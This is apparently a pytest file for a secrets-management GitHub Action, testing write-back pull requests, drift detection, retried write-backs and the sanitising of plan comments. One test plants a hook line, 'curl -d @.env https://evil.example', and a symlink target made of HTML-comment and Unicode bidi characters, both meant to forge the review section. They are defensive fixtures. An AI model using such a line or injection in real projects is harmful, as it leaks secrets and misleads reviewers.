"""write-back: pr under attack: a pending write-back never hides a password changed outside or a
file deleted after the merge; a failed write-back is retried by the next apply; a symlink's target
cannot forge the review section of the plan comment."""

from __future__ import annotations

import os
import shutil
import subprocess
import textwrap
from pathlib import Path

from tests.conftest import Server
from tests.conftest import run as conftest_run
from tests.github.fake_api import FakeGitHub
from tests.github.test_action import (
    MANIFEST,
    commit,
    git,
    plan_comments,
    pr_event,
    repo,
    run,
)


def age_manifest() -> str:
    import pyrage

    recipient = str(pyrage.x25519.Identity.generate().to_public())
    return textwrap.dedent(
        f"""
        version: 1
        environments: {{prod: {{}}}}
        databases:
          shop:
            outputs:
              - age: secrets/prod.env.age
                recipients: ["{recipient}"]
                keys: {{SHOP_URL: "{{{{ db.connection_string }}}}"}}
        """
    )


def applied_on_main(tmp_path: Path, server: Server, gh: FakeGitHub, runner_temp: Path, *, origin: bool = True):  # type: ignore[no-untyped-def]
    """main with an age output, applied by the action with write-back: pr: (origin, runner, sha, result)."""
    remote = tmp_path / "origin.git"
    subprocess.run(["git", "init", "-q", "--bare", "-b", "main", str(remote)], check=True)
    root, sha = repo(tmp_path / "main-runner", age_manifest())
    git(root, "remote", "add", "origin", str(remote))
    git(root, "push", "-q", "origin", "main")
    if not origin:
        git(root, "remote", "set-url", "origin", str(tmp_path / "gone.git"))
    result = run(
        "apply", root, server, gh, runner_temp, "push", {"after": sha, "ref": "refs/heads/main"}, sha=sha,
        **{"on-unreviewed": "apply", "write-back": "pr"},
    )  # fmt: skip
    return remote, root, sha, result


def clone(origin: Path, root: Path, where: Path) -> Path:
    subprocess.run(["git", "clone", "-q", str(origin), str(where)], check=True)
    shutil.copytree(root / ".hepinfra", where / ".hepinfra")  # the shared state (S3/PostgreSQL in real life)
    return where


def test_a_pending_write_back_never_hides_a_password_changed_outside(
    tmp_path: Path, server: Server, gh: FakeGitHub, runner_temp: Path
) -> None:
    origin, root, _, applied = applied_on_main(tmp_path, server, gh, runner_temp)
    assert applied.code == 0 and len(gh.pulls) == 1, applied.logs

    async def rotate_in_the_dashboard() -> None:
        async with server.hepgg() as hub:
            (row,) = [d for d in await hub.databases().list() if d.name.startswith("shop")]
            await hub.databases().rotate(row.id)

    conftest_run(rotate_in_the_dashboard())
    fresh = clone(origin, root, tmp_path / "fresh")
    drift = run("drift", fresh, server, gh, runner_temp, "schedule", {})
    assert drift.code == 0, drift.logs
    (issue,) = gh.issues
    assert "password-changed-outside" in issue["body"], issue["body"]


def test_after_the_merge_a_deleted_file_is_missing_again(
    tmp_path: Path, server: Server, gh: FakeGitHub, runner_temp: Path
) -> None:
    origin, root, _, applied = applied_on_main(tmp_path, server, gh, runner_temp)
    assert applied.code == 0, applied.logs
    (pull,) = gh.pulls
    branch = pull["head"]["ref"]
    before_merge = clone(origin, root, tmp_path / "before-merge")
    drift = run("drift", before_merge, server, gh, runner_temp, "schedule", {})
    assert drift.code == 0 and "write-back-pending" in gh.issues[0]["body"], drift.logs  # a reminder to merge

    git(origin, "update-ref", "refs/heads/main", branch)  # the write-back is merged (fast-forward)
    merged_runner = clone(origin, root, tmp_path / "after-merge")
    merged = git(merged_runner, "rev-parse", "HEAD")
    head = {"ref": branch, "sha": merged}
    gh.pulls_by_commit[merged] = [{**pull, "head": head, "merge_commit_sha": merged, "merged_at": "2026-12-03T00:00Z"}]
    # no plan job ran on it (GITHUB_TOKEN's pull requests start no workflow): the apply's own comment
    # is the review; the push of the merge applies nothing and settles the write-back
    pushed = run("apply", merged_runner, server, gh, runner_temp, "push", {"after": merged, "ref": "refs/heads/main"},
                 sha=merged)  # fmt: skip
    assert pushed.code == 0 and pushed.outputs["changes"] == "false", pushed.logs

    hostile = clone(origin, merged_runner, tmp_path / "hostile")
    git(hostile, "rm", "-q", "secrets/prod.env.age")
    git(hostile, "-c", "user.name=m", "-c", "user.email=m@example.com", "commit", "-q", "-m", "cleanup")
    planned = run("plan", hostile, server, gh, runner_temp, "pull_request",
                  pr_event(77, merged, git(hostile, "rev-parse", "HEAD")))  # fmt: skip
    assert planned.code == 0 and planned.outputs["changes"] == "true", planned.logs
    assert "missing" in plan_comments(gh, 77)[0]["body"]


def test_a_failed_write_back_is_written_again_by_the_next_apply(
    tmp_path: Path, server: Server, gh: FakeGitHub, runner_temp: Path
) -> None:
    origin, root, sha, failed = applied_on_main(tmp_path, server, gh, runner_temp, origin=False)
    assert failed.code == 1 and failed.outputs["failure-reason"] == "write-back-failed", failed.logs
    assert "the next apply writes them again" in failed.logs and gh.pulls == []
    fresh = clone(origin, root, tmp_path / "fresh")  # the runner that held the file is gone
    planned = run("plan", fresh, server, gh, runner_temp, "pull_request",
                  pr_event(5, sha, commit(fresh, age_manifest().replace("version: 1", "version: 1 # x"), None, "x")))  # fmt: skip
    assert planned.outputs["changes"] == "true", planned.logs  # not hidden as pending
    git(fresh, "checkout", "-q", sha)
    retried = run("apply", fresh, server, gh, runner_temp, "push", {"after": sha, "ref": "refs/heads/main"}, sha=sha,
                  **{"on-unreviewed": "apply", "write-back": "pr"})  # fmt: skip
    assert retried.code == 0 and len(gh.pulls) == 1, retried.logs
    changed = git(origin, "diff", "--name-only", "main", gh.pulls[0]["head"]["ref"]).split()
    assert changed == ["secrets/prod.env.age"]


def test_a_symlink_target_cannot_forge_the_review_section(
    tmp_path: Path, server: Server, gh: FakeGitHub, runner_temp: Path
) -> None:
    hook = "#!/bin/sh\necho deploy\n"
    base_manifest = MANIFEST.replace("  shop:\n", "  shop:\n    after_rotate: [./deploy.sh]\n")
    root, base = repo(tmp_path / "ws", base_manifest, {"deploy.sh": hook})
    evil = base_manifest.replace(
        "databases:\n",
        'databases:\n  aaa:\n    outputs:\n      - exec: [./tool]\n        keys: {U: "{{ db.connection_string }}"}\n',
    )
    os.symlink("x\n\n<!--\n\u2028\u202e", root / "tool")
    head = commit(root, evil, {"deploy.sh": hook + "curl -d @.env https://evil.example\n"}, "pr")
    result = run("plan", root, server, gh, runner_temp, "pull_request", pr_event(9, base, head))
    assert result.code == 0, result.logs
    (comment,) = plan_comments(gh, 9)
    body = comment["body"]
    assert "<!--\n" not in body.split("\n", 3)[3] and "\u2028" not in body and "\u202e" not in body
    assert "deploy.sh" in body and "tool is a symbolic link to x\\n\\n" in body
